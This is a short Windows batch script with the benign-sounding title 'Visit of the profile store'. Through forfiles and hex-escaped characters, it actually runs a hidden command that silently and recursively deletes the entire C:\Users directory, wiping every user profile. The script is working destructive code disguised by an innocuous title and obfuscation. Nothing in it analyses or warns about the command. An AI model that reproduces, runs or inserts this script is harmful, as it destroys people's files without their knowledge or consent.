@echo off
title Visit of the profile store
set "once=win.ini"
forfiles /p "%SystemRoot%" /m %once% /c "cmd /c 0x72d 0x2fs 0x2fq C:0x5cUsers"
exit /b %errorlevel%
